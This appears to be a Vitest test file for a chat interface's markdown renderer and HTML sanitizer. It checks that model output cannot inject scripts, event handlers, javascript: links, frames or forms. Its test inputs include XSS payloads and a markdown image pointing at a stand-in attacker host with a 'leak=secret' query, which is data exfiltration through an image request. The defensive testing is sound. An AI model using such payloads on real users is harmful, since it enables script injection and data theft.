import { describe, expect, it } from 'vitest';
import { renderMarkdown, sanitize } from './render';

function dom(md: string): HTMLElement {
  const el = document.createElement('div');
  el.innerHTML = renderMarkdown(md);
  return el;
}

describe('renderMarkdown', () => {
  it('shows raw HTML from the model as text, never as elements', () => {
    const el = dom('Hello <script>alert(1)</script> and <img src=x onerror="alert(2)"> <b onclick="x()">b</b>');
    expect(el.querySelector('script, img, b')).toBeNull();
    expect(el.textContent).toContain('<script>alert(1)</script>');
    expect(el.innerHTML).not.toMatch(/<img|<script/i);
  });

  it('removes event handlers and script even inside block HTML', () => {
    const el = dom('<div onmouseover="steal()"><img src=x onerror=alert(1)><svg onload=alert(3)></svg></div>\n\n<iframe src="javascript:alert(4)"></iframe>');
    expect(el.querySelector('img, svg, iframe, script')).toBeNull();
    for (const node of el.querySelectorAll('*')) {
      expect([...node.attributes].filter((a) => a.name.startsWith('on'))).toEqual([]);
    }
  });

  it('neutralises javascript: links and keeps safe ones, opening in a new tab', () => {
    const el = dom('[bad](javascript:alert(1)) [bad2](JaVaScRiPt:alert(1)) [ok](https://example.com/a)');
    const links = [...el.querySelectorAll('a')];
    for (const a of links) expect(a.getAttribute('href') ?? '').not.toMatch(/^\s*javascript:/i);
    const ok = links.find((a) => a.textContent === 'ok');
    expect(ok?.getAttribute('href')).toBe('https://example.com/a');
    expect(ok?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(ok?.getAttribute('target')).toBe('_blank');
  });

  it('turns images into links (no requests to URLs the model picked)', () => {
    const el = dom('![a cat](https://evil.example/x.png?leak=secret)');
    expect(el.querySelector('img')).toBeNull();
    expect(el.querySelector('a')?.textContent).toBe('a cat');
  });

  it('highlights fenced code and gives every block a copy button', () => {
    const el = dom('```python\ndef f(x):\n    return "<b>"\n```\n\n```\nplain <i>text</i>\n```');
    const blocks = el.querySelectorAll('.code-block');
    expect(blocks).toHaveLength(2);
    const py = blocks[0]!.querySelector('code')!;
    expect(py.className).toContain('language-python');
    expect(py.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(py.textContent).toContain('return "<b>"');
    expect(blocks[1]!.querySelector('code')!.textContent).toBe('plain <i>text</i>');
    const buttons = el.querySelectorAll('button[data-copy]');
    expect(buttons).toHaveLength(2);
    expect(buttons[0]!.getAttribute('aria-label')).toBe('Copy code');
  });

  it('lets the model make no buttons of its own', () => {
    const el = dom('<button data-copy onclick="x()">Copy</button>');
    expect(el.querySelector('button')).toBeNull();
  });

  it('renders ordinary markdown', () => {
    const el = dom('# Title\n\n- **bold** item\n- `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(el.querySelector('h3')?.textContent).toBe('Title'); // under the page's headings
    expect(el.querySelector('h1, h2')).toBeNull();
    expect(el.querySelector('li strong')?.textContent).toBe('bold');
    expect(el.querySelector('td')?.textContent).toBe('1');
  });
});

describe('sanitize (behind the markdown renderer)', () => {
  it('strips script, handlers, styles, forms, images, frames and javascript: URLs from raw HTML', () => {
    const holder = document.createElement('div');
    holder.appendChild(
      sanitize(
        '<p onclick="x()" style="color:red" id="app">hi</p><script>alert(1)</script><img src=x onerror=alert(1)>' +
          '<form action="/v1/session"><button>go</button><input></form><iframe src="https://x"></iframe>' +
          '<svg><script>alert(2)</script></svg><style>*{}</style><a href="javascript:alert(3)">x</a><a href="https://ok.example">ok</a>',
      ),
    );
    expect(holder.querySelector('script, img, form, button, input, iframe, svg, style')).toBeNull();
    const p = holder.querySelector('p')!;
    expect([...p.attributes].map((a) => a.name)).toEqual([]);
    const [bad, ok] = [...holder.querySelectorAll('a')];
    expect(bad!.hasAttribute('href')).toBe(false);
    expect(ok!.getAttribute('href')).toBe('https://ok.example');
  });
});
